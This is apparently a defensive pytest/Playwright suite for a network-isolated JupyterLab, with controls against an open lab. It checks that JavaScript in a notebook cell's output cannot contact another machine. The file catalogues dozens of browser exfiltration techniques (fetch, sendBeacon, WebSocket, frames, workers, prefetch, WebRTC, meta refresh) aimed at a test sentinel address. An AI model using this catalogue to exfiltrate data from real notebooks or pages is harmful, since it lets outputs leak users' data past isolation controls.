"""A script in a cell's output uses the browser's network, in a lab whose notebooks have no network"""

import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_notebook
from playwright.sync_api import Browser, Download, Error, expect

from tests.clients.browser.conftest import started
from tests.clients.browser.sentinel import Sentinel
from tests.clients.browser.test_plots import cells as plots
from tests.clients.browser.visit import Visit
from tests.support.project import Project
from tests.support.variants import beside, with_server
from tests.support.waiting import until

pytestmark = pytest.mark.usefixtures("chromium")  # first, while another worker builds the lab's image
NOTEBOOK = "notebooks/walls.ipynb"
KERNEL = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}

# Way -> JavaScript that tries it. `at` is the address of another machine. ways.js has the other functions: `put` adds
# an element to the page. SEND is code for another page or a worker, which sends something.
STOPPED = {
    "fetch": "fetch(http, {mode: 'no-cors'})",
    "XMLHttpRequest": "request(http)",
    "sendBeacon": "navigator.sendBeacon(http, 'x')",
    "WebSocket": "new Promise(done => { new WebSocket(`ws://${at}/`).onerror = done })",
    "EventSource": "new Promise(done => { new EventSource(http).onerror = done })",
    "WebTransport": "new WebTransport(`https://${at}/`).ready",
    "an image": "put('img', {src: http})",
    "an image in SVG": "put('div', {}, `<svg><image href='${http}'/></svg>`)",
    "audio": "put('audio', {src: http})",
    "video": "put('video', {src: http})",
    "the poster of a video": "put('video', {poster: http})",
    "a script": "put('script', {src: http})",
    "a JavaScript module": "import(http)",
    "a style sheet": "put('link', {rel: 'stylesheet', href: http})",
    "@import in a style sheet": "put('style', {}, `@import url('${http}')`)",
    "url() in a style sheet": "put('div', {style: `background: url('${http}')`}, 'x')",
    "a font": "new FontFace('x', `url(${http})`).load()",
    "a frame": "put('iframe', {src: http})",
    "a frame that leads elsewhere": "frame({}).then(inside => { inside.location = http })",
    "fetch in an empty frame": "frame({}).then(inside => inside.fetch(http))",
    "fetch in a srcdoc frame": "told(put('iframe', {srcdoc: `<script>${SEND}<\\/script>`}))",
    "fetch in a frame with a data: address": "told(put('iframe', {src: `data:text/html,<script>${SEND}<\\/script>`}))",
    "fetch in a frame with a blob: address": "told(put('iframe', {src: page(SEND)}))",
    "fetch in a frame with an error of the server": "frame({src: '/nowhere'}).then(inside => inside.fetch(http))",
    "fetch in a frame with a static file": "frame({src: '/static/favicon.ico'}).then(inside => inside.fetch(http))",
    "fetch in a frame with a file": "told(put('iframe', {src: `/files/notebooks/walls.html?${at}`}))",
    "fetch in a new empty tab": "open('about:blank').fetch(http)",
    "object": "put('object', {data: http})",
    "embed": "put('embed', {src: http})",
    "a form": "put('form', {action: http, method: 'post', target: 'nowhere'}).then(form => form.submit())",
    "ping of a link": "put('a', {href: '#', ping: http}).then(link => link.click())",
    "fetch in a worker": "told(worker(SEND))",
    "importScripts in a worker": "told(worker(`try { importScripts('${http}') } catch {} postMessage('${at}')`))",
    "<link rel=prefetch>": "put('link', {rel: 'prefetch', href: http})",
    "<link rel=preload>": "put('link', {rel: 'preload', as: 'fetch', crossorigin: '', href: http})",
    "<link rel=modulepreload>": "put('link', {rel: 'modulepreload', href: http})",
    "base address": "put('iframe', {srcdoc: `<base href='${http}'><img src='x'>`})",
    "FedCM": "identity(http)",
}  # fmt: skip
# No policy covers these ways. Chromium refuses them too, because of the header Connection-Allowlist.
BEYOND = {
    "a new tab": "open(http)",
    "a link that the user clicks": "put('a', {href: http, id: 'clicked'}, 'x')",
    "the page goes to another address": "location = http",
    "meta refresh": "put('meta', {'http-equiv': 'refresh', content: `0; url=${http}`})",
    "speculation rules, prefetch": "rules('prefetch', http)",
    "speculation rules, prerender": "rules('prerender', http)",
}
WEBRTC = {"STUN": "rtc(`stun:${at}`)", "TURN": "rtc(`turn:${at}?transport=tcp`)"}
LEAVING = [*BEYOND][:4]  # these ways need a tab of their own
SCRIPT = Path(__file__).with_name("ways.js").read_text(encoding="utf-8")
# A file of the notebook's folder.
FILES = {
    "walls.html": "<script>fetch(`http://${location.search.slice(1)}/`, {mode: 'no-cors'})"
    ".catch(() => {}).then(() => parent.postMessage(location.search.slice(1), '*'))</script>",
}
CELL = """
from IPython.display import HTML, display
display(HTML(f"<script>{open('ways.js').read()}</script>"))
"""


MADE: list[Path] = []


@pytest.fixture(autouse=True)
def nothing_stays() -> Iterator[None]:
    """Other tests use the same labs, so the files of a test go with it."""
    yield
    while MADE:
        MADE.pop().unlink(missing_ok=True)


def write(project: Project, files: dict[str, str]) -> None:
    """Write files into notebooks/, as the lab's user."""
    folder = project.folder / "notebooks"
    owner = folder.stat()
    for name, text in files.items():
        MADE.append(folder / name)
        (folder / name).write_text(text)
        os.chown(folder / name, owner.st_uid, owner.st_gid)


def load(visit: Visit, address: str) -> None:
    """Open a notebook. A browser that can list the interfaces ends requests when the container of another test starts.

    Its page can then stay empty, so open it again.
    """
    while True:
        visit.complaints.clear()
        visit.page.goto(address)
        try:
            return visit.wait_for_kernel()
        except AssertionError:
            if "net::ERR_NETWORK_CHANGED" not in str(visit.complaints):
                raise


@contextmanager
def opened(project: Project, browser: Browser, *cells: str) -> Iterator[Visit]:
    """A notebook with these cells, which have run, in a browser that has logged in."""
    notebook = new_notebook(cells=[new_code_cell(cell) for cell in cells], metadata=KERNEL)
    write(project, {"walls.ipynb": json.dumps(notebook)})
    visit = Visit(browser, project)
    client = project.client()
    load(visit, f"{client.address}/login?next=/lab/tree/{NOTEBOOK}%3Freset&token={client.token}")
    visit.run_all()
    expect(visit.notebook().locator(".jp-InputPrompt").last).to_have_text(re.compile(r"\[\d+\]:"))
    yield visit
    visit.close()
    for session in client.request("GET", "sessions").json():
        client.request("DELETE", f"sessions/{session['id']}")


def refused(visit: Visit) -> bool:
    """Does a tab show an error of the browser?"""
    visit.page.evaluate("1")  # so that Playwright hears of new tabs
    return any(page.url.startswith("chrome-error:") for page in visit.context.pages)


def arrived(project: Project, browser: Browser, ways: dict[str, str] | None = None) -> set[str]:
    """The ways, by default all, in which a script in a cell's output reaches another machine."""
    ways = ways or STOPPED | BEYOND
    sentinel = Sentinel(ways)
    staying = [(code, sentinel.addresses[name]) for name, code in ways.items() if name not in LEAVING]
    write(project, FILES | {"ways.js": SCRIPT.replace("WAYS", json.dumps(staying))})
    with opened(project, browser, CELL) as visit:
        visit.page.wait_for_function("window.tried")
        for name in [name for name in LEAVING if name in ways]:
            tab = visit.context.new_page()
            tab.goto(f"{project.client().address}/nowhere")
            tab.add_script_tag(content=SCRIPT.replace("WAYS", "[]"))
            with suppress(Error):  # the page goes away
                tab.evaluate("([code, at]) => attempt(code, at)", [ways[name], sentinel.addresses[name]])
            if name == "a link that the user clicks":
                tab.locator("#clicked").click(no_wait_after=True)
            until(lambda name=name: name in sentinel.arrived or refused(visit), f"{name} arrives or is refused", 30)
            for page in visit.context.pages[1:]:
                page.close()
    sentinel.close()
    return sentinel.arrived


@pytest.fixture(scope="module")
def reached(sealed: Project, browser: Browser) -> set[str]:
    return arrived(sealed, browser)


@pytest.mark.attack(
    "A script in a cell's output sends something to another machine", "The browser refuses. Nothing arrives."
)
@pytest.mark.parametrize("way", STOPPED)
def test_the_browser_refuses(reached: set[str], way: str) -> None:
    assert way not in reached


@pytest.mark.attack(
    "A script in a cell's output sends something to another machine in a way that no policy covers, in Chromium",
    "Chromium refuses. Nothing arrives. In browsers that do not know the header `Connection-Allowlist`, it arrives.",
)
@pytest.mark.parametrize("way", BEYOND)
def test_chromium_refuses(reached: set[str], way: str) -> None:
    assert way not in reached


@pytest.mark.full
def test_control_in_a_browser_without_the_allowlist_these_ways_remain(
    sealed: Project, browser: Browser, tmp_path: Path
) -> None:
    """The policy alone stops all other ways."""
    text = sealed.read("lab/server/walls/__init__.py")
    layer = with_server(sealed, tmp_path, "walls/__init__.py", text.replace('"Connection-Allowlist": ', '"X-None": '))
    with beside(sealed, tmp_path, layer) as twin:
        twin.serve()
        assert arrived(twin, browser) == BEYOND.keys()


@pytest.mark.full
def test_control_in_an_open_lab_everything_arrives(lab: Project, browser: Browser) -> None:
    assert arrived(lab, browser) == STOPPED.keys() | BEYOND.keys()


@pytest.mark.full
@pytest.mark.attack(
    "A script in a cell's output sends something to another machine with WebRTC, in Chromium",
    "Chromium refuses. Nothing arrives. In browsers that do not know the header `Connection-Allowlist`, it arrives.",
)
def test_chromium_refuses_webrtc(sealed: Project, lab: Project, browser: Browser) -> None:
    """The control: in an open lab, both ways arrive. WebRTC needs a browser that can list the network's interfaces."""
    with started("webrtc", SECCOMP="unconfined") as (_, address):
        other = browser.browser_type.connect_over_cdp(address)
        assert [arrived(each, other, WEBRTC) for each in (sealed, lab)] == [set(), set(WEBRTC)]


def test_plots_and_widgets_work(sealed: Project, browser: Browser) -> None:
    """Without a message in the console."""
    code = plots()
    names = ["before", "matplotlib", "pandas", "seaborn", "ipywidgets", "tqdm"]
    with opened(sealed, browser, *(code[name] for name in names)) as visit:
        notebook = visit.notebook()
        expect(notebook.locator(".jp-OutputArea-output img")).to_have_count(3)
        expect(notebook.locator(".widget-hprogress")).to_have_count(4)
        visit.picture("sealed")
        assert visit.complaints == []


# --- LAB_DOWNLOADS ----------------------------------------------------------------------------------
DISPLAY = "getComputedStyle(document.documentElement).display"
DOWNLOAD = """() => {
    const link = document.createElement('a')
    link.download = 'a.txt'
    link.href = URL.createObjectURL(new Blob(['x']))
    link.click()
}"""


@pytest.mark.full
@pytest.mark.attack(
    "With LAB_DOWNLOADS=off, a script in a cell's output starts a download",
    "The browser refuses.",
)
def test_a_page_offers_no_downloads(sealed: Project, browser: Browser, tmp_path: Path) -> None:
    """The control: with LAB_DOWNLOADS=on, downloads, menus and printing work."""
    downloads: list[Download] = []
    with beside(sealed, tmp_path, LAB_DOWNLOADS="off") as twin:
        twin.serve()
        with opened(twin, browser, "1") as off, opened(sealed, browser, "1") as on:
            assert (menu(off), menu(on)) == (set(), {"Download", "Save and Export Notebook As", "Print…"})
            off.picture("no downloads")
            off.page.on("download", lambda download: downloads.append(download))
            off.page.evaluate(DOWNLOAD)
            with on.page.expect_download():
                on.page.evaluate(DOWNLOAD)
            assert off.page.evaluate(DISPLAY) == "block"
            for visit, display in ((off, "none"), (on, "block")):
                visit.page.emulate_media(media="print")
                assert visit.page.evaluate(DISPLAY) == display
            assert (downloads, off.complaints, on.complaints) == ([], [], [])


def menu(visit: Visit) -> set[str]:
    """The entries of the menu File that give away a file."""
    visit.page.get_by_role("menubar").get_by_text("File", exact=True).click()
    opened = visit.page.locator(".lm-Menu")
    expect(opened).to_contain_text("Save Notebook")
    entries = opened.inner_text()
    visit.page.keyboard.press("Escape")
    return {name for name in ("Download", "Save and Export Notebook As", "Print…") if name in entries}
